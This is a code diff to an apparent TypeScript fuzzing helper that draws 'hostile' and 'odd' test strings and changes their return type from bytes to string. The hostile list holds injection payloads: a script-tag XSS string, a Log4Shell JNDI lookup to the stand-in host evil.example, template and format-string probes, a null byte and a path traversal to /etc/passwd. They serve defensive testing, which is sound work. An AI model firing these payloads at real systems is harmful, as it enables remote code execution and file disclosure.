@@ -3,7 +3,6 @@
  * text. Hostile text breaks other people's tools: `docs/sandbox.md` lists them.
  */
 import { draw, pick } from "./Draw.ts"
-import { fixed } from "./RecordWriter.ts"
 
 const oddTexts = [
   // separators and quotes
@@ -21,7 +20,7 @@ const oddTexts = [
   ``,
   ` `,
   "very long ".repeat(500)
-].map(fixed)
+]
 
 const hostileTexts = [
   // spreadsheets
@@ -45,12 +44,12 @@ const hostileTexts = [
   // mark-up, templates, paths
   `</script><script>alert(1)</script>`,
   `\${jndi:ldap://evil.example/a} {{7*7}} %s%n %00 ../../etc/passwd`
-].map(fixed)
+]
 
 const allTexts = [...hostileTexts, ...oddTexts]
 
 /** Hostile or odd text, by a draw. */
-export const hostileText = (key: number): Uint8Array => pick(allTexts, draw(key, 0))
+export const hostileText = (key: number): string => pick(allTexts, draw(key, 0))
 
 /** Odd text, by a draw. */
-export const oddText = (key: number): Uint8Array => pick(oddTexts, draw(key, 0))
+export const oddText = (key: number): string => pick(oddTexts, draw(key, 0))
